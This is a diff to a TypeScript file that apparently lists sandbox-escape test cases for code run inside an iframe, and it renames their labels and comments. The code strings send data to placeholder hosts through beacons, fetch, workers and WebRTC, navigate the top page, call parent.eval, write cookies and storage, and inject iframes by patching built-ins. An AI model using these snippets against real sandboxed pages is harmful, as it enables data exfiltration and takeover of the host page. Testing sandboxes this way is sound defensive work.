@@ -1,7 +1,7 @@
-/** A way in which edited code might get out of its frame. */
+/** An attempt of code to escape from its iframe. */
 export interface Escape {
   name: string;
-  /** The body of an async function. OUT is an address of the outside, WS its socket, STUN its datagrams. */
+  /** Body of an async function; `OUT`, `WS` and `STUN` stand for URLs of a third party. */
   code: string;
 }
 
@@ -13,11 +13,11 @@ const style = (text: string) => append('style', `{ textContent: \`${text}\` }`);
 const stun = (scope: string) =>
   `const peer = new ${scope}RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); peer.createDataChannel('a'); await peer.setLocalDescription(await peer.createOffer());`;
 
-/** Asks an address of the outside for something. */
+/** Attempts to send a request to a third party. */
 const requests: Escape[] = [
   { name: 'fetch', code: `await fetch('OUT/a');` },
   {
-    name: 'fetch that outlives its page',
+    name: 'fetch with keepalive',
     code: `await fetch('OUT/a', { keepalive: true, mode: 'no-cors' });`,
   },
   {
@@ -29,7 +29,7 @@ const requests: Escape[] = [
   { name: 'beacon', code: `navigator.sendBeacon('OUT/a', 'secret');` },
   { name: 'image', code: `new Image().src = 'OUT/a';` },
   { name: 'image in HTML', code: html('<img srcset="OUT/a 1x">') },
-  { name: 'image of an input', code: append('input', `{ type: 'image', src: 'OUT/a' }`) },
+  { name: 'image input', code: append('input', `{ type: 'image', src: 'OUT/a' }`) },
   { name: 'image in SVG', code: html('<svg><image href="OUT/a" width="9" height="9"/></svg>') },
   { name: 'video', code: append('video', `{ src: 'OUT/a', preload: 'auto' }`) },
   { name: 'poster', code: append('video', `{ poster: 'OUT/a' }`) },
@@ -37,7 +37,7 @@ const requests: Escape[] = [
   { name: 'script', code: append('script', `{ src: 'OUT/a' }`) },
   { name: 'module', code: `await import('OUT/a');` },
   {
-    name: 'module in a script of its own',
+    name: 'import in an inline module script',
     code: append('script', `{ type: 'module', textContent: "import 'OUT/a'" }`),
   },
   { name: 'style sheet', code: append('link', `{ rel: 'stylesheet', href: 'OUT/a' }`) },
@@ -55,9 +55,9 @@ const requests: Escape[] = [
     name: 'font',
     code: `${style(`@font-face { font-family: 'A'; src: url('OUT/a') }`)} await document.fonts.load('9px A');`,
   },
-  { name: 'font made by a script', code: `await new FontFace('A', "url('OUT/a')").load();` },
+  { name: 'font from FontFace', code: `await new FontFace('A', "url('OUT/a')").load();` },
   {
-    name: 'ping of a link',
+    name: 'link ping',
     code: `${append('a', `{ ping: 'OUT/a', href: '#a' }`)} document.body.lastChild.click();`,
   },
   { name: 'worker', code: `new Worker(URL.createObjectURL(new Blob(["fetch('OUT/a')"])));` },
@@ -69,26 +69,26 @@ const requests: Escape[] = [
     name: 'shared worker',
     code: `new SharedWorker(URL.createObjectURL(new Blob(["fetch('OUT/a')"])));`,
   },
-  { name: 'datagrams of WebRTC', code: stun('') },
-  { name: 'datagrams of WebRTC, asked for by its old name', code: stun('webkit') },
+  { name: 'WebRTC datagrams', code: stun('') },
+  { name: 'WebRTC datagrams by webkitRTCPeerConnection', code: stun('webkit') },
 ];
 
-/** Opens a document of the outside, here or elsewhere. */
+/** Attempts to open a document of a third party, in the iframe or elsewhere. */
 const documents: Escape[] = [
-  { name: 'address of the frame', code: `location.href = 'OUT/a';` },
+  { name: 'location of the iframe', code: `location.href = 'OUT/a';` },
   {
-    name: 'address of the frame, replaced later',
+    name: 'location of the iframe, replaced later',
     code: `setTimeout(() => location.replace('OUT/a'));`,
   },
   {
-    name: 'address of the frame, without its listeners',
+    name: 'location of the iframe, without listeners',
     code: `document.open(); location.href = 'OUT/a';`,
   },
   {
-    name: 'refresh',
+    name: 'meta refresh',
     code: `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=OUT/a'; document.head.append(meta);`,
   },
-  { name: 'refresh in HTML', code: html('<meta http-equiv="refresh" content="0;url=OUT/a">') },
+  { name: 'meta refresh in HTML', code: html('<meta http-equiv="refresh" content="0;url=OUT/a">') },
   { name: 'link', code: `${append('a', `{ href: 'OUT/a' }`)} document.body.lastChild.click();` },
   {
     name: 'link in SVG',
@@ -103,64 +103,64 @@ const documents: Escape[] = [
     code: `const form = document.createElement('form'); form.action = 'OUT/a'; form.method = 'post'; document.body.append(form); form.submit();`,
   },
   {
-    name: 'form in its own frame',
+    name: 'form with target _self',
     code: `${html('<form action="OUT/a" target="_self"><button>a</button></form>')} box.querySelector('button').click();`,
   },
-  { name: 'window', code: `open('OUT/a');` },
-  { name: 'window that is this one', code: `open('OUT/a', '_self');` },
-  { name: 'window that is the page', code: `open('OUT/a', '_top');` },
-  { name: 'address of the page', code: `top.location = 'OUT/a';` },
-  { name: 'address of the page above', code: `parent.location.replace('OUT/a');` },
+  { name: 'window.open', code: `open('OUT/a');` },
+  { name: 'window.open with target _self', code: `open('OUT/a', '_self');` },
+  { name: 'window.open with target _top', code: `open('OUT/a', '_top');` },
+  { name: 'location of the page', code: `top.location = 'OUT/a';` },
+  { name: 'location of the parent', code: `parent.location.replace('OUT/a');` },
   {
-    name: 'link for the page',
+    name: 'link with target _top',
     code: `${append('a', `{ href: 'OUT/a', target: '_top' }`)} document.body.lastChild.click();`,
   },
-  { name: 'frame in the frame', code: append('iframe', `{ src: 'OUT/a' }`) },
-  { name: 'frame in the frame, in HTML', code: html('<b><iframe src="OUT/a"></iframe></b>') },
+  { name: 'nested iframe', code: append('iframe', `{ src: 'OUT/a' }`) },
+  { name: 'nested iframe in HTML', code: html('<b><iframe src="OUT/a"></iframe></b>') },
   {
-    name: 'frame in the frame, in capitals',
+    name: 'nested iframe in uppercase',
     code: `document.body.append(Object.assign(document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe'), { src: 'OUT/a' })); document.createElement('IFRAME');`,
   },
   {
-    name: 'empty frame that is sent away',
+    name: 'empty iframe that navigates',
     code: `const frame = document.createElement('iframe'); document.body.append(frame); frame.contentWindow.location = 'OUT/a';`,
   },
-  { name: 'frame of other HTML', code: append('iframe', `{ srcdoc: '<img src="OUT/a">' }`) },
+  { name: 'iframe with srcdoc', code: append('iframe', `{ srcdoc: '<img src="OUT/a">' }`) },
   {
-    name: 'frame from parsed HTML',
+    name: 'iframe from DOMParser',
     code: `document.body.append(new DOMParser().parseFromString('<iframe src="OUT/a"></iframe>', 'text/html').body.firstChild);`,
   },
   {
-    name: 'frame from XML',
+    name: 'iframe from XML',
     code: `const box = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'div').documentElement; box.innerHTML = '<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" src="OUT/a"/>'; document.body.append(document.adoptNode(box.firstChild));`,
   },
   {
-    name: 'frame from a style sheet for XML',
+    name: 'iframe from XSLT',
     code: `const processor = new XSLTProcessor(); processor.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><iframe src="OUT/a"/></xsl:template></xsl:stylesheet>', 'text/xml')); document.body.append(processor.transformToFragment(document.implementation.createDocument('', 'a'), document));`,
   },
   {
-    name: 'frame from a range',
+    name: 'iframe from a range',
     code: `document.body.append(document.createRange().createContextualFragment('<iframe src="OUT/a"></iframe>'));`,
   },
   {
-    name: 'frame that is an element of its own',
+    name: 'iframe as a customized built-in element',
     code: `class Own extends HTMLIFrameElement {} customElements.define('own-frame', Own, { extends: 'iframe' }); const own = new Own(); own.src = 'OUT/a'; document.body.append(own);`,
   },
   {
-    name: 'frame through tools that were replaced',
+    name: 'iframe through patched built-in functions',
     code: `const seen = []; const { call } = Function.prototype; const { toLowerCase, slice } = String.prototype; const { exec, test } = RegExp.prototype; Function.prototype.call = function (...all) { seen.push(this); return Reflect.apply(call, this, all); }; String.prototype.toLowerCase = () => 'b'; String.prototype.slice = () => 'b'; RegExp.prototype.exec = () => null; RegExp.prototype.test = () => false; const make = () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'OUT/a' })); const write = () => document.body.insertAdjacentHTML('beforeend', '<iframe src="OUT/a"></iframe>'); try { for (const way of [make, write]) { try { way(); } catch {} } } finally { Function.prototype.call = call; Object.assign(String.prototype, { toLowerCase, slice }); Object.assign(RegExp.prototype, { exec, test }); } for (const found of seen) { try { document.body.append(Object.assign(Reflect.apply(found, document, ['iframe']), { src: 'OUT/a' })); } catch {} }`,
   },
-  { name: 'object', code: append('object', `{ data: 'OUT/a' }`) },
-  { name: 'embedded document', code: append('embed', `{ src: 'OUT/a' }`) },
-  { name: 'written document', code: `document.write('<img src="OUT/a">');` },
-  { name: 'navigation', code: `navigation.navigate('OUT/a');` },
+  { name: 'object element', code: append('object', `{ data: 'OUT/a' }`) },
+  { name: 'embed element', code: append('embed', `{ src: 'OUT/a' }`) },
+  { name: 'document.write', code: `document.write('<img src="OUT/a">');` },
+  { name: 'Navigation API', code: `navigation.navigate('OUT/a');` },
   {
-    name: 'address before any script could listen',
+    name: 'location with a patched addEventListener',
     code: `Object.defineProperty(EventTarget.prototype, 'addEventListener', { value() {} }); addEventListener('beforeunload', (event) => event.stopImmediatePropagation(), true); location.assign('OUT/a');`,
   },
 ];
 
-/** Changes or reads the page that holds the frame. */
+/** Attempts to change or read the page around the iframe, its storage or the browser. */
 const page: Escape[] = [
   { name: 'title of the page', code: `parent.document.title = 'escaped';` },
   { name: 'content of the page', code: `top.document.body.dataset.escaped = '1';` },
@@ -168,13 +168,13 @@ const page: Escape[] = [
   { name: 'name of the page', code: `parent.name = 'escaped';` },
   { name: 'prototypes of the page', code: `parent.Object.prototype.escaped = 1;` },
   { name: 'hash of the page', code: `parent.location.hash = 'escaped';` },
-  { name: 'code in the page', code: `parent.eval('window.escaped = 1');` },
+  { name: 'eval in the page', code: `parent.eval('window.escaped = 1');` },
   {
-    name: 'script address of the page',
+    name: 'javascript: URL of the page',
     code: `parent.location = 'javascript:void(window.escaped = 1)';`,
   },
   {
-    name: "the frame's own element",
+    name: 'frameElement',
     code: `frameElement.ownerDocument.body.dataset.escaped = '1';`,
   },
   { name: 'local storage of the page', code: `parent.localStorage.setItem('escaped', '1');` },
@@ -183,23 +183,23 @@ const page: Escape[] = [
   { name: 'cookie', code: `document.cookie = 'escaped=1;path=/';` },
   { name: 'cookie store', code: `await cookieStore.set('escaped', '1');` },
   {
-    name: 'database',
+    name: 'IndexedDB',
     code: `await new Promise((resolve) => (indexedDB.open('escaped').onsuccess = resolve));`,
   },
-  { name: 'cache', code: `await caches.open('escaped');` },
+  { name: 'Cache Storage', code: `await caches.open('escaped');` },
   {
-    name: 'files of the origin',
+    name: 'origin private file system',
     code: `await (await navigator.storage.getDirectory()).getFileHandle('escaped', { create: true });`,
   },
-  { name: 'channel', code: `new BroadcastChannel('escaped').postMessage(1);` },
+  { name: 'BroadcastChannel', code: `new BroadcastChannel('escaped').postMessage(1);` },
   {
-    name: 'lock',
+    name: 'web lock',
     code: `navigator.locks.request('escaped', () => new Promise(() => {})); await navigator.locks.query();`,
   },
   { name: 'history', code: `history.back();` },
   { name: 'history of the page', code: `parent.history.back();` },
-  { name: 'message box', code: `alert('escaped');` },
-  { name: 'question', code: `prompt('escaped');` },
+  { name: 'alert', code: `alert('escaped');` },
+  { name: 'prompt', code: `prompt('escaped');` },
   {
     name: 'download',
     code: `${append('a', `{ href: URL.createObjectURL(new Blob(['a'])), download: 'escaped' }`)} document.body.lastChild.click();`,
@@ -209,7 +209,7 @@ const page: Escape[] = [
     code: `${append('input', `{ id: 'thief' }`)} document.getElementById('thief').focus();`,
   },
   {
-    name: 'focus by selecting',
+    name: 'focus by select()',
     code: `${append('input', `{ id: 'thief', value: 'a' }`)} document.getElementById('thief').select();`,
   },
   {
@@ -222,5 +222,5 @@ const page: Escape[] = [
   },
 ];
 
-/** Every attempt, in groups that are tried together. */
+/** All attempts, in groups that run together. */
 export const escapes = { requests, documents, page };
